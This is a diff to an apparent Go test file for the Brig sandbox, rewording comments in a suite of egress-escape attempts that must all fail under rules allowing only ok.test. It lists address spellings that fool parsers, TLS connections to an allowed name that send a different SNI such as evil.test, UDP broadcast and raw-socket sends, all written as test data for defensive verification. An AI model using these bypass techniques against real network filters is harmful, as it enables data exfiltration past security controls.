@@ -13,8 +13,7 @@ import (
 	"github.com/brig-run/brig/internal/attack"
 )
 
-// attempts contains helpers for attacks from a sandbox. Each helper prints its
-// result.
+// attempts defines helper functions for attacks from a sandbox. Each helper prints its result.
 const attempts = `
 import socket, struct, ssl, os, sys, random
 socket.setdefaulttimeout(2)
@@ -68,8 +67,8 @@ def tls(name, port, sni, data=b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"):
 // escape is one attempt to send data out of a sandbox.
 type escape struct{ id, code string }
 
-// spellings are addresses and names in spellings that some parsers interpret as
-// other addresses or names.
+// spellings are alternative spellings of addresses and names, which parsers interpret
+// differently.
 var spellings = []string{
 	"2130706433", "0x7f000001", "0177.0.0.1", "127.1", "127.0.1", "0", "0.0.0.0", "::", "::ffff:127.0.0.1", "::ffff:10.0.0.1",
 	"::10.0.0.1", "64:ff9b::7f00:1", "64:ff9b::a00:1", "2002:a00:1::1", "fe80::1%eth0", "fe80::1%1", "１０.０.０.１", "10。0。0。1",
@@ -79,8 +78,7 @@ var spellings = []string{
 	"ok.test .evil.test", "ok.test..", ".ok.test", "xn--ok-test", "OK.TEST.EVIL.TEST", "198.18.0.1", "198.18.0.16", "224.0.0.1", "255.255.255.255",
 }
 
-// escapes returns attempts that must all fail with rules that allow only
-// ok.test.
+// escapes returns attempts that must all fail under rules that allow only ok.test.
 func escapes() []escape {
 	var out []escape
 	add := func(id, format string, args ...any) { out = append(out, escape{id, fmt.Sprintf(format, args...)}) }
@@ -118,7 +116,7 @@ func escapes() []escape {
 		add("NET-09", "udp('224.0.0.251', %d)", p)
 		add("NET-09", "udp('255.255.255.255', %d)", p)
 	}
-	// Connections to an allowed name that are used for another name.
+	// Connect to an allowed name, and then request another name.
 	for _, sni := range []string{"'evil.test'", "'xok.test'", "'ok.test.evil.test'", "None", "'" + evilAddr + "'"} {
 		add("NET-04", "tls('ok.test', 443, %s)", sni)
 	}
@@ -172,8 +170,8 @@ func newEscapeLab(t *testing.T) *lab {
 	return l
 }
 
-// escapes runs the attempts in a sandbox, and verifies that the lab would
-// detect a success.
+// escapes runs the attempts in a sandbox, and verifies with a control that the lab detects
+// successful attempts.
 func (l *lab) escapes(t *testing.T, e *engine.Engine, ctx context.Context, spec brig.Spec) {
 	spec.Egress, spec.TTL, spec.Limits.Memory = escapeRules, 20*time.Minute, brig.GiB
 	box, err := e.Create(ctx, spec)
@@ -261,8 +259,7 @@ func (l *lab) escapes(t *testing.T, e *engine.Engine, ctx context.Context, spec 
 			}
 			attack.RecordMutant(x.id, x.code, "the rules", len(got) > 0)
 		}
-		// Rules can allow only TCP, so the lab sends a UDP packet itself,
-		// bypassing Brig.
+		// Rules cannot allow UDP, so send a UDP packet from the lab, bypassing Brig.
 		for _, at := range []string{evilAddr + ":443", "10.0.0.1:53"} {
 			if c, err := net.Dial("udp", at); err == nil {
 				_, _ = c.Write([]byte("x"))
@@ -277,8 +274,7 @@ func (l *lab) escapes(t *testing.T, e *engine.Engine, ctx context.Context, spec 
 	})
 }
 
-// escapesAsRoot tries attacks that require privileges that root in a sandbox
-// lacks.
+// escapesAsRoot verifies that attacks fail that require privileges which root lacks in a sandbox.
 func escapesAsRoot(t *testing.T, e *engine.Engine, ctx context.Context, name string, l *lab) {
 	for _, code := range []string{
 		"raw(1, '" + evilAddr + "')", "raw(255, '" + evilAddr + "')", "raw(17, '8.8.8.8')",
